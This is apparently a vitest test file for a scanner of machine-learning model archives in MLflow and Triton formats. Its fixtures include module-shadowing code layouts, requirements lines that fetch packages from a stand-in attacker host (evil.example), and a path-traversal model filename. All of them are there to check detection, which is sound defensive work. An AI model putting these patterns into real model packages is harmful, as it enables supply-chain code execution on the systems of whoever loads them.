import { gzipSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { buildSevenZip } from "../formats/sevenzip/testing/build.ts";
import { tarOf, zipOf } from "../testing/archives.ts";
import { actsIn } from "./testing/pickles.ts";

const model = (code: string): string =>
  `flavors:\n  python_function:\n    ${code}\n    loader_module: mlflow.catboost\n`;
const python = "import os\n";

describe("a model of MLflow in an archive", () => {
  const hidden: readonly Readonly<Record<string, string>>[] = [
    { "m/MLmodel": model("code: code"), "m/code/catboost.py": python },
    { MLmodel: model("code: code"), "code/lightgbm/__init__.py": python },
    { MLmodel: model("code_paths:\n    - src\n    - lib"), "lib/numpy.py": python },
    { MLmodel: model('code: "./mine/"'), "mine/yaml.pyc": python },
    { MLmodel: model("code: code"), "code/pandas.cpython-311-x86_64-linux-gnu.so": python },
  ];
  test.each(hidden)("modules that hide what is installed: %#", (files) => {
    expect(actsIn(zipOf(files))).toEqual(["runs"]);
    expect(actsIn(gzipSync(tarOf(files)))).toEqual(["runs"]);
    const entries = Object.entries(files).map(([name, data]) => ({ name, data }));
    expect(actsIn(buildSevenZip(entries))).toEqual(["runs"]);
  });
  test("an environment that is installed from elsewhere", () => {
    for (const line of ["x @ git+https://evil.example/x", "--extra-index-url http://evil.example"])
      expect(actsIn(zipOf({ MLmodel: model("code: null"), "requirements.txt": line }))).toEqual([
        "metadata-url",
      ]);
  });
  test("code of its own and the usual environment are silent", () => {
    const files = {
      "m/MLmodel": model("code: code"),
      "m/code/my_features.py": python,
      "m/code/my_features/numpy.py": python,
      "m/requirements.txt":
        "# https://example.org\nmlflow==3.4.0\n--extra-index-url https://download.pytorch.org/whl/cpu\n",
      "m/conda.yaml": "channels:\n- conda-forge\ndependencies:\n- python=3.11\n",
      "other/catboost.py": python,
    };
    expect(actsIn(zipOf(files))).toEqual([]);
    expect(actsIn(zipOf({ MLmodel: model("data: data"), "code/numpy.py": python }))).toEqual([]);
  });
});

test("a model of Triton in an archive", () => {
  const files = (line: string) => ({ "m/config.pbtxt": `backend: "python"\n${line}\n` });
  expect(actsIn(zipOf(files('default_model_filename: "../../x"')))).toEqual(["escapes"]);
  expect(actsIn(tarOf(files('model_operations { op_library_filename: "x.so" }')))).toEqual([
    "native",
  ]);
  expect(actsIn(zipOf(files("max_batch_size: 8")))).toEqual([]);
});
